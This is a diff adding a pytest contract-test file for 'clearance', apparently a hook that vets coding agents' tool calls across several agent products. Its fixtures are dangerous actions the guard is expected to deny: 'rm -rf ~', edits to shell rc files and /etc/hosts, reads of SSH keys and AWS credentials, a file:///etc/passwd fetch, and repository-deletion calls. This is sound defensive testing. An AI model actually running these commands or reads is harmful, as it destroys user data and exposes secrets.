@@ -1,0 +1,374 @@
+"""Contract tests: each agent's own event shapes in, each agent's exact answer shape out."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from clearance.adapters import detect
+from clearance.hook import Options, run_answer
+from clearance.installer import InstallError, install, uninstall
+
+PROJECT = "/home/ana/webapp"
+ENV = {"HOME": "/home/ana", "CLEARANCE_HEADLESS": "0"}
+
+
+def answer(event: dict[str, Any], agent: str | None = None) -> Any:
+    env = dict(ENV, CLEARANCE_DB=os.environ["CLEARANCE_DB"], XDG_CACHE_HOME=os.environ["XDG_CACHE_HOME"])
+    return run_answer(json.dumps(event).encode(), Options(["--agent", agent] if agent else []), env)
+
+
+# -- event shapes from each agent's documentation (docs/protocols.md) --------------------
+
+CODEX = {
+    "shell": {
+        "session_id": "c1",
+        "turn_id": "t1",
+        "hook_event_name": "PreToolUse",
+        "cwd": PROJECT,
+        "tool_name": "Bash",
+        "tool_use_id": "call_1",
+        "tool_input": {"command": "rm -rf ~"},
+    },
+    "shell_ok": {
+        "session_id": "c1",
+        "turn_id": "t1",
+        "hook_event_name": "PreToolUse",
+        "cwd": PROJECT,
+        "tool_name": "Bash",
+        "tool_use_id": "call_2",
+        "tool_input": {"command": "cargo test"},
+    },
+    "write": {
+        "session_id": "c1",
+        "turn_id": "t1",
+        "hook_event_name": "PreToolUse",
+        "cwd": PROJECT,
+        "tool_name": "apply_patch",
+        "tool_input": {"command": "*** Begin Patch\n*** Update File: /home/ana/.bashrc\n@@\n-x\n+y\n*** End Patch\n"},
+    },
+    "write_ok": {
+        "session_id": "c1",
+        "turn_id": "t1",
+        "hook_event_name": "PreToolUse",
+        "cwd": PROJECT,
+        "tool_name": "apply_patch",
+        "tool_input": {"command": "*** Begin Patch\n*** Add File: src/new.rs\n+fn main() {}\n*** End Patch\n"},
+    },
+    "mcp": {
+        "session_id": "c1",
+        "turn_id": "t1",
+        "hook_event_name": "PreToolUse",
+        "cwd": PROJECT,
+        "tool_name": "mcp__github__delete_repository",
+        "tool_input": {"repo": "ana/webapp"},
+    },
+    "ask": {
+        "session_id": "c1",
+        "turn_id": "t1",
+        "hook_event_name": "PreToolUse",
+        "cwd": PROJECT,
+        "tool_name": "Bash",
+        "tool_input": {"command": "terraform apply"},
+    },
+}
+GEMINI = {
+    "shell": {
+        "session_id": "g1",
+        "transcript_path": "/tmp/t.json",
+        "cwd": PROJECT,
+        "hook_event_name": "BeforeTool",
+        "timestamp": "2026-11-25T10:00:00Z",
+        "tool_name": "run_shell_command",
+        "tool_input": {"command": "rm -rf ~", "description": "clean"},
+    },
+    "shell_ok": {
+        "session_id": "g1",
+        "cwd": PROJECT,
+        "hook_event_name": "BeforeTool",
+        "timestamp": "2026-11-25T10:00:00Z",
+        "tool_name": "run_shell_command",
+        "tool_input": {"command": "npm test"},
+    },
+    "write": {
+        "session_id": "g1",
+        "cwd": PROJECT,
+        "hook_event_name": "BeforeTool",
+        "timestamp": "t",
+        "tool_name": "write_file",
+        "tool_input": {"file_path": "/home/ana/.zshrc", "content": "x"},
+    },
+    "write_ok": {
+        "session_id": "g1",
+        "cwd": PROJECT,
+        "hook_event_name": "BeforeTool",
+        "timestamp": "t",
+        "tool_name": "replace",
+        "tool_input": {"file_path": f"{PROJECT}/src/a.ts", "old_string": "a", "new_string": "b"},
+    },
+    "read": {
+        "session_id": "g1",
+        "cwd": PROJECT,
+        "hook_event_name": "BeforeTool",
+        "timestamp": "t",
+        "tool_name": "read_file",
+        "tool_input": {"file_path": "/home/ana/.ssh/id_ed25519"},
+    },
+    "fetch": {
+        "session_id": "g1",
+        "cwd": PROJECT,
+        "hook_event_name": "BeforeTool",
+        "timestamp": "t",
+        "tool_name": "web_fetch",
+        "tool_input": {"prompt": "Summarise https://x.example/?t=ghp_16C7e42F292c6912E7710c838347Ae178B4a please"},
+    },
+    "fetch_ok": {
+        "session_id": "g1",
+        "cwd": PROJECT,
+        "hook_event_name": "BeforeTool",
+        "timestamp": "t",
+        "tool_name": "web_fetch",
+        "tool_input": {"prompt": "Summarise https://react.dev/learn"},
+    },
+    "mcp": {
+        "session_id": "g1",
+        "cwd": PROJECT,
+        "hook_event_name": "BeforeTool",
+        "timestamp": "t",
+        "tool_name": "delete_repository",
+        "tool_input": {"repo": "x"},
+        "mcp_context": {"server_name": "github", "tool_name": "delete_repository"},
+    },
+    "ask": {
+        "session_id": "g1",
+        "cwd": PROJECT,
+        "hook_event_name": "BeforeTool",
+        "timestamp": "t",
+        "tool_name": "run_shell_command",
+        "tool_input": {"command": "kubectl apply -f k.yaml"},
+    },
+}
+CURSOR_BASE = {"conversation_id": "conv-1", "generation_id": "gen-1", "workspace_roots": [PROJECT], "cursor_version": "2.1.0"}
+CURSOR = {
+    "shell": {**CURSOR_BASE, "hook_event_name": "beforeShellExecution", "command": "rm -rf ~", "cwd": PROJECT},
+    "shell_ok": {**CURSOR_BASE, "hook_event_name": "beforeShellExecution", "command": "pnpm test", "cwd": PROJECT},
+    "write": {
+        **CURSOR_BASE,
+        "hook_event_name": "preToolUse",
+        "tool_name": "Write",
+        "tool_input": {"file_path": "/home/ana/.cursor/mcp.json", "contents": "{}"},
+    },
+    "write_ok": {**CURSOR_BASE, "hook_event_name": "preToolUse", "tool_name": "Write", "tool_input": {"file_path": f"{PROJECT}/src/a.ts", "contents": "x"}},
+    "read": {**CURSOR_BASE, "hook_event_name": "beforeReadFile", "file_path": "/home/ana/.aws/credentials", "content": "[default]"},
+    "read_ok": {**CURSOR_BASE, "hook_event_name": "beforeReadFile", "file_path": f"{PROJECT}/README.md", "content": "# x"},
+    "mcp": {
+        **CURSOR_BASE,
+        "hook_event_name": "beforeMCPExecution",
+        "tool_name": "drop_table",
+        "tool_input": '{"table": "users"}',
+        "url": "http://localhost:3000",
+    },
+    "ask": {**CURSOR_BASE, "hook_event_name": "beforeShellExecution", "command": "terraform apply", "cwd": PROJECT},
+}
+COPILOT = {
+    "shell": {"timestamp": 1704614600000, "cwd": PROJECT, "toolName": "bash", "toolArgs": json.dumps({"command": "rm -rf ~", "description": "clean"})},
+    "shell_ok": {"timestamp": 1704614600000, "cwd": PROJECT, "toolName": "bash", "toolArgs": json.dumps({"command": "npm test"})},
+    "write": {"timestamp": 1, "cwd": PROJECT, "toolName": "create", "toolArgs": json.dumps({"path": "/etc/hosts", "file_text": "x"})},
+    "write_ok": {"timestamp": 1, "cwd": PROJECT, "toolName": "edit", "toolArgs": json.dumps({"path": f"{PROJECT}/src/a.ts", "old_str": "a", "new_str": "b"})},
+    "read": {"timestamp": 1, "cwd": PROJECT, "toolName": "view", "toolArgs": json.dumps({"path": "/home/ana/.ssh/id_rsa"})},
+    "read_ok": {"timestamp": 1, "cwd": PROJECT, "toolName": "view", "toolArgs": json.dumps({"path": f"{PROJECT}/README.md"})},
+    "fetch": {"timestamp": 1, "cwd": PROJECT, "toolName": "web_fetch", "toolArgs": json.dumps({"url": "file:///etc/passwd"})},
+    "mcp": {"timestamp": 1, "cwd": PROJECT, "toolName": "github/delete_repository", "toolArgs": json.dumps({"repo": "x"})},
+    "ask": {"timestamp": 1, "cwd": PROJECT, "toolName": "bash", "toolArgs": json.dumps({"command": "terraform apply"})},
+}
+
+
+def test_detection() -> None:
+    assert detect(CODEX["shell"]) == "codex"
+    assert detect(GEMINI["shell"]) == "gemini"
+    assert detect(CURSOR["shell"]) == "cursor"
+    assert detect(COPILOT["shell"]) == "copilot"
+    assert detect({"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": "ls"}, "session_id": "x"}) == "claude"
+
+
+@pytest.mark.parametrize("key", ["shell", "write", "mcp"])
+def test_codex_blocks_with_exit_2(key: str) -> None:
+    a = answer(CODEX[key])
+    assert a.exit_code == 2 and a.stdout is None and a.stderr.startswith("clearance denied:")
+
+
+@pytest.mark.parametrize("key", ["shell_ok", "write_ok"])
+def test_codex_allows_silently(key: str) -> None:
+    a = answer(CODEX[key])
+    assert (a.exit_code, a.stdout) == (0, None)
+
+
+def test_codex_cannot_ask_so_it_blocks() -> None:
+    a = answer(CODEX["ask"])
+    assert a.exit_code == 2 and "cannot ask" in a.stderr
+
+
+@pytest.mark.parametrize("key", ["shell", "write", "read", "fetch", "mcp", "ask"])
+def test_gemini_denies(key: str) -> None:
+    a = answer(GEMINI[key])
+    assert a.exit_code == 0 and set(a.stdout) == {"decision", "reason"} and a.stdout["decision"] == "deny"
+    assert a.stdout["reason"].startswith("clearance:")
+
+
+@pytest.mark.parametrize("key", ["shell_ok", "write_ok", "fetch_ok"])
+def test_gemini_allows(key: str) -> None:
+    assert answer(GEMINI[key]).stdout == {"decision": "allow"}
+
+
+@pytest.mark.parametrize(
+    ("key", "permission"),
+    [
+        ("shell", "deny"),
+        ("write", "deny"),
+        ("read", "deny"),
+        ("mcp", "deny"),
+        ("ask", "ask"),
+        ("shell_ok", "allow"),
+        ("write_ok", "allow"),
+        ("read_ok", "allow"),
+    ],
+)
+def test_cursor_permissions(key: str, permission: str) -> None:
+    a = answer(CURSOR[key])
+    assert a.exit_code == 0 and a.stdout["permission"] == permission
+    if permission == "allow":
+        assert a.stdout == {"permission": "allow"}
+    else:
+        assert set(a.stdout) == {"permission", "user_message", "agent_message"}
+
+
+@pytest.mark.parametrize("key", ["shell", "write", "read", "fetch", "mcp", "ask"])
+def test_copilot_denies(key: str) -> None:
+    a = answer(COPILOT[key])
+    assert a.exit_code == 0 and set(a.stdout) == {"permissionDecision", "permissionDecisionReason"} and a.stdout["permissionDecision"] == "deny"
+
+
+@pytest.mark.parametrize("key", ["shell_ok", "write_ok", "read_ok"])
+def test_copilot_allows_silently(key: str) -> None:
+    a = answer(COPILOT[key])
+    assert (a.exit_code, a.stdout) == (0, None)
+
+
+def test_malformed_input_blocks_in_every_agent() -> None:
+    env = dict(ENV, CLEARANCE_DB=os.environ["CLEARANCE_DB"])
+    for agent in ("claude", "codex", "gemini", "cursor", "copilot"):
+        a = run_answer(b"{not json", Options(["--agent", agent]), env)
+        from clearance.installer import blocked
+
+        assert blocked(agent, json.dumps(a.stdout) if a.stdout is not None else "", a.exit_code), agent
+        assert "malformed" in a.stderr
+    bad = run_answer(json.dumps({"timestamp": 1, "cwd": PROJECT, "toolName": "bash", "toolArgs": "{broken"}).encode(), Options(), env)
+    assert bad.stdout["permissionDecision"] == "deny"
+
+
+def test_non_decision_events_are_ignored() -> None:
+    assert answer({**GEMINI["shell"], "hook_event_name": "AfterTool", "tool_response": {}}).stdout is None
+    assert answer({**CURSOR_BASE, "hook_event_name": "afterFileEdit", "file_path": "x"}).stdout is None
+
+
+def test_cursor_workspace_root_is_the_project() -> None:
+    a = answer(
+        {**CURSOR_BASE, "workspace_roots": ["/home/ana/other"], "hook_event_name": "beforeShellExecution", "command": "rm -rf src", "cwd": "/home/ana/other"}
+    )
+    assert a.stdout["permission"] == "deny" and "source directory" in a.stdout["agent_message"]
+
+
+# -- install / uninstall -------------------------------------------------------------------
+
+ORIGINALS = {
+    "claude": b'{\n  "permissions": {\n    "allow": [\n      "Bash(npm test:*)"\n    ]\n  },\n  "hooks": {\n    "PostToolUse": [\n      {\n        "matcher": "Edit",\n        "hooks": [\n          {\n            "type": "command",\n            "command": "prettier --write"\n          }\n        ]\n      }\n    ]\n  }\n}\n',
+    "codex": b'{\n  "hooks": {\n    "SessionStart": [\n      {\n        "hooks": [\n          {\n            "type": "command",\n            "command": "echo hi"\n          }\n        ]\n      }\n    ]\n  }\n}\n',
+    "gemini": b'{\n    "theme": "GitHub",\n    "general": {\n        "vimMode": true\n    }\n}',
+    "cursor": b'{\n  "version": 1,\n  "hooks": {\n    "afterFileEdit": [\n      {\n        "command": "./format.sh"\n      }\n    ]\n  }\n}\n',
+    "copilot": None,
+}
+
+
+@pytest.mark.parametrize("agent", ["claude", "codex", "gemini", "cursor", "copilot"])
+@pytest.mark.parametrize("scope", ["user", "project"])
+def test_install_uninstall_round_trip(agent: str, scope: str, tmp_path: Path) -> None:
+    from clearance.installer import settings_path
+
+    home, project = str(tmp_path / "home"), str(tmp_path / "proj")
+    path = Path(settings_path(agent, scope, home, project))
+    original = ORIGINALS[agent]
+    if original is not None:
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(original)
+    _, dry = install(agent, scope, home, project, dry_run=True, exe="/opt/clearance/bin/clearance")
+    assert dry and (path.read_bytes() == original if original is not None else not path.exists())
+    _, diff = install(agent, scope, home, project, exe="/opt/clearance/bin/clearance")
+    assert "clearance hook --agent " + agent in diff
+    data = json.loads(path.read_text())
+    again = install(agent, scope, home, project, exe="/opt/clearance/bin/clearance")[1]
+    assert again == "" and json.loads(path.read_text()) == data  # idempotent
+    _, removed = uninstall(agent, scope, home, project)
+    assert removed
+    if original is None:
+        assert not path.exists()
+    else:
+        assert path.read_bytes() == original
+    assert not Path(str(path) + ".clearance.bak").exists()
+
+
+def test_installed_entries_have_each_agents_shape(tmp_path: Path) -> None:
+    home, project = str(tmp_path / "h"), str(tmp_path / "p")
+    exe = "/opt/clearance/bin/clearance"
+    shapes = {}
+    for agent in ("claude", "codex", "gemini", "cursor", "copilot"):
+        path, _ = install(agent, "user", home, project, exe=exe)
+        shapes[agent] = json.loads(Path(path).read_text())
+    assert shapes["claude"]["hooks"]["PreToolUse"][0] == {
+        "matcher": "*",
+        "hooks": [{"type": "command", "command": f"{exe} hook --agent claude || exit 2", "timeout": 30}],
+    }
+    assert shapes["codex"]["hooks"]["PreToolUse"][0]["hooks"][0]["command"].endswith("|| exit 2")
+    assert shapes["gemini"]["hooks"]["BeforeTool"][0]["matcher"] == ".*" and shapes["gemini"]["hooks"]["BeforeTool"][0]["hooks"][0]["timeout"] == 30000
+    assert shapes["cursor"] == {"hooks": {"preToolUse": [{"command": f"{exe} hook --agent cursor || exit 2"}]}, "version": 1}
+    cp = shapes["copilot"]
+    assert cp["version"] == 1 and cp["hooks"]["preToolUse"][0]["type"] == "command" and "permissionDecision" in cp["hooks"]["preToolUse"][0]["bash"]
+
+
+def test_install_refuses_invalid_json(tmp_path: Path) -> None:
+    path = tmp_path / "home" / ".claude" / "settings.json"
+    path.parent.mkdir(parents=True)
+    path.write_text('{"hooks": {,}')
+    with pytest.raises(InstallError, match="not valid JSON"):
+        install("claude", "user", str(tmp_path / "home"), str(tmp_path))
+    assert path.read_text() == '{"hooks": {,}'
+
+
+def test_installed_hook_fails_closed_when_clearance_is_missing(tmp_path: Path) -> None:
+    from clearance.installer import hook_command
+
+    for agent in ("claude", "codex", "gemini", "cursor"):
+        p = subprocess.run(["bash", "-c", hook_command(agent, exe=str(tmp_path / "missing" / "clearance"))], input="{}", capture_output=True, text=True)
+        assert p.returncode == 2, agent
+    p = subprocess.run(["bash", "-c", hook_command("copilot", exe=str(tmp_path / "missing"))], input="{}", capture_output=True, text=True)
+    assert json.loads(p.stdout)["permissionDecision"] == "deny"
+
+
+def test_cli_install_and_doctor(tmp_path: Path) -> None:
+    env = dict(os.environ, HOME=str(tmp_path), CLEARANCE_MANAGED_POLICY=str(tmp_path / "none.toml"))
+    cmd = [sys.executable, "-m", "clearance"]
+    p = subprocess.run([*cmd, "install", "claude"], capture_output=True, text=True, env=env, cwd=tmp_path)
+    assert p.returncode == 0 and "+" in p.stdout
+    d = subprocess.run([*cmd, "doctor"], capture_output=True, text=True, env=env, cwd=tmp_path, timeout=120)
+    assert "✓ claude (user): hook installed" in d.stdout
+    for agent in ("claude", "codex", "gemini", "cursor", "copilot"):
+        assert f"✓ {agent}: self-test passed" in d.stdout, d.stdout
+    bad = tmp_path / ".claude" / "settings.json"
+    bad.write_text("{oops")
+    d2 = subprocess.run([*cmd, "doctor"], capture_output=True, text=True, env=env, cwd=tmp_path, timeout=120)
+    assert d2.returncode == 1 and "not valid JSON" in d2.stdout
